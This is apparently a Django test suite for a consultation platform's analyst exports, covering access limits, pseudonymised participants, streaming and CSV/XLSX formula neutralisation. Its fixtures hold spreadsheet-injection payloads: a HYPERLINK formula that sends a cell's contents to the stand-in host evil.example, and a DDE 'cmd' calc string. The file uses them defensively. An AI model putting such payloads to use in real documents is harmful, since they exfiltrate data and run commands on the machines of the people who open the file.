"""The analysts' exports: who may have them, what they hold, and what they never hold."""

import csv
import io
import json
import tracemalloc

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.privacy.policy import NO_AI_TRAINING_STATEMENT
from consult.discussion.models import Comment, CommentState, Position
from consult.exports import formats
from consult.exports.queries import contribution_rows
from consult.outcomes.models import CommentTheme, Theme
from consult.questionnaires.models import Response, ResponseState
from tests.exports.conftest import add_comment, download_url, prepare_spreadsheet

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def contributions(consultation, alice):
    root = add_comment(consultation, alice, "Scores must be explained to claimants.")
    add_comment(consultation, alice, FORMULA, parent=root, thread=root, depth=1)
    add_comment(consultation, alice, "Too rude to keep.", state=CommentState.HIDDEN)
    add_comment(consultation, alice, "I take this back.", state=CommentState.REMOVED_BY_AUTHOR)
    add_comment(consultation, alice, "@SUM(1+1)*cmd|' /C calc'!A0")
    Position.objects.create(
        consultation=consultation,
        user=alice,
        stance="oppose",
        reason="-2+3 reasons",
        author_stakeholder_group="affected",
    )
    Response.objects.create(
        consultation=consultation,
        user=alice,
        answers={"block-1": "Only with a human check."},
        state=ResponseState.SUBMITTED,
        submitted_at=timezone.now(),
        stakeholder_group="affected",
    )
    for name in ("Explanations", "Appeals"):
        theme = Theme.objects.create(consultation=consultation, name=name)
        CommentTheme.objects.create(theme=theme, comment=root)
    return root


def download(client, user, consultation, kind):
    client.force_login(user)
    if kind == "xlsx":  # prepared in the background, then downloaded from its page
        response = client.get(download_url(prepare_spreadsheet(client, consultation).url))
    else:
        response = client.get(reverse("exports_contributions", args=[consultation.pk, kind]))
    assert response.status_code == 200, response.status_code
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(body: bytes) -> list[dict]:
    """The rows as a spreadsheet reads them: the first line is the header."""
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_holds_every_contribution_with_its_state(client, erin, consultation, contributions):
    rows = csv_rows(download(client, erin, consultation, "csv"))

    assert [row["kind"] for row in rows] == ["comment"] * 5 + ["position", "response"]
    assert rows[-1]["text"] == ""  # a response's answers are in its questions' columns
    states = {row["text"]: row["state"] for row in rows}
    assert states["Too rude to keep."] == "hidden"
    removed = next(row for row in rows if row["state"] == "removed_by_author")
    assert removed["text"] == ""  # its author took it back
    assert {row["stakeholder_group"] for row in rows} == {"affected"}
    assert len({row["participant"] for row in rows}) == 1
    assert rows[1]["parent_id"] == str(contributions.pk)
    assert rows[0]["themes"] == "Appeals; Explanations"
    assert rows[1]["themes"] == ""


def test_the_metadata_is_a_file_of_its_own(client, erin, consultation, contributions):
    body = download(client, erin, consultation, "csv").decode("utf-8-sig")
    assert str(NO_AI_TRAINING_STATEMENT) not in body
    assert next(csv.reader(io.StringIO(body)))[0] == "kind"

    response = client.get(reverse("exports_metadata", args=[consultation.pk]))
    assert response.status_code == 200
    assert "-about.csv" in response["Content-Disposition"]
    about = dict(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert about["ai_training"] == str(NO_AI_TRAINING_STATEMENT)
    assert about["consultation"] == consultation.title


def test_formulas_are_neutralised_in_csv_and_xlsx(client, erin, consultation, contributions):
    rows = csv_rows(download(client, erin, consultation, "csv"))
    texts = [row["text"] for row in rows]
    assert "'" + FORMULA in texts
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    assert "'-2+3 reasons" in texts

    workbook = load_workbook(io.BytesIO(download(client, erin, consultation, "xlsx")))
    sheet = workbook["contributions"]
    header = [cell.value for cell in sheet[1]]
    text_column = header.index("text")
    cells = [row[text_column] for row in sheet.iter_rows(min_row=2) if row[text_column].value]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + FORMULA in [cell.value for cell in cells]
    about = dict(workbook["about"].iter_rows(values_only=True))
    assert about["ai_training"] == str(NO_AI_TRAINING_STATEMENT)


def test_json_keeps_the_text_as_written_with_its_metadata(
    client, erin, consultation, contributions
):
    data = json.loads(download(client, erin, consultation, "json"))
    assert data["meta"]["ai_training"] == str(NO_AI_TRAINING_STATEMENT)
    assert FORMULA in [row["text"] for row in data["contributions"]]
    assert len(data["contributions"]) == 7


@pytest.mark.parametrize("kind", ["csv", "json", "xlsx"])
def test_no_export_names_anyone(client, erin, alice, consultation, contributions, kind):
    body = download(client, erin, consultation, kind)
    if kind == "xlsx":
        workbook = load_workbook(io.BytesIO(body))
        body = json.dumps(
            [list(sheet.iter_rows(values_only=True)) for sheet in workbook], default=str
        ).encode()
    for secret in ("zanzibar", "Zanzibar", "Quillfeather", "424242", "example.org"):
        assert secret.encode() not in body


def test_pseudonyms_differ_between_consultations(client, erin, alice, index_page, consultation):
    from tests import factories

    other = factories.make_consultation(index_page, "Another one", system=consultation.ai_system)
    add_comment(consultation, alice, "First.")
    add_comment(other, alice, "Second.")
    first = csv_rows(download(client, erin, consultation, "csv"))
    second = csv_rows(download(client, erin, other, "csv"))
    assert first[0]["participant"] and second[0]["participant"]
    assert first[0]["participant"] != second[0]["participant"]


def test_only_editors_with_mfa_may_export(client, erin, eddie, mona, alice, consultation):
    url = reverse("exports_contributions", args=[consultation.pk, "csv"])

    assert client.get(url).status_code == 302  # anonymous: to the sign-in page

    client.force_login(alice)
    assert client.get(url).status_code in (302, 403)
    client.force_login(eddie)
    response = client.get(url)
    assert response.status_code == 302 and response.url == reverse("mfa_index")
    client.force_login(mona)
    assert client.get(url).status_code in (302, 403)
    client.force_login(erin)
    assert client.get(url).status_code == 200


def test_a_moderator_with_admin_access_is_refused(client, mona, consultation):
    from django.contrib.auth.models import Permission

    mona.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(mona)
    # The admin answers a refusal by sending her back to its dashboard, with no data.
    for url in (
        reverse("exports_contributions", args=[consultation.pk, "json"]),
        reverse("exports_index"),
    ):
        response = client.get(url)
        assert response.status_code == 302 and response.url == reverse("wagtailadmin_home")
        assert not response.streaming


def test_the_admin_lists_the_exports(client, erin, consultation):
    client.force_login(erin)
    html = client.get(reverse("exports_index")).content.decode()
    assert reverse("exports_contributions", args=[consultation.pk, "csv"]) in html
    assert reverse("exports_spreadsheet_request", args=[consultation.pk]) in html
    assert reverse("exports_metadata", args=[consultation.pk]) in html
    assert str(NO_AI_TRAINING_STATEMENT) in html


def _peak_bytes(consultation) -> int:
    tracemalloc.start()
    for _piece in formats.csv_pieces([], contribution_rows(consultation)):
        pass
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def test_memory_stays_flat_as_the_export_grows(consultation, alice):
    def add(n):
        Comment.objects.bulk_create(
            Comment(
                consultation=consultation,
                author=alice,
                author_display_mode="pseudonym",
                author_stakeholder_group="affected",
                body_source=f"Row {i} " + "words " * 30,
                body_html="<p>x</p>",
            )
            for i in range(n)
        )

    add(4000)
    small = _peak_bytes(consultation)
    add(12000)  # four times as many rows
    large = _peak_bytes(consultation)
    assert large < small * 1.5, (small, large)


def test_the_page_explorer_offers_the_exports(client, erin, index_page, consultation):
    client.force_login(erin)
    html = client.get(reverse("wagtailadmin_explore", args=[index_page.pk])).content.decode()
    assert reverse("exports_contributions", args=[consultation.pk, "csv"]) in html
    assert reverse("exports_index") in html  # the menu item


def test_under_asgi_the_body_streams_piece_by_piece(erin, consultation, alice):
    """Under ASGI Django would read a plain iterator whole before sending it: the view hands
    it an asynchronous one, which yields the CSV a few hundred rows at a time."""
    from asgiref.sync import async_to_sync
    from django.test import AsyncClient

    for n in range(3 * formats.ROWS_PER_PIECE):
        add_comment(consultation, alice, f"Comment {n}")

    async def fetch():
        client = AsyncClient()
        await client.aforce_login(erin)
        response = await client.get(reverse("exports_contributions", args=[consultation.pk, "csv"]))
        assert response.is_async
        return [piece async for piece in response]

    pieces = async_to_sync(fetch)()
    assert len(pieces) >= 4
    rows = csv_rows(b"".join(pieces))
    assert len(rows) == 3 * formats.ROWS_PER_PIECE
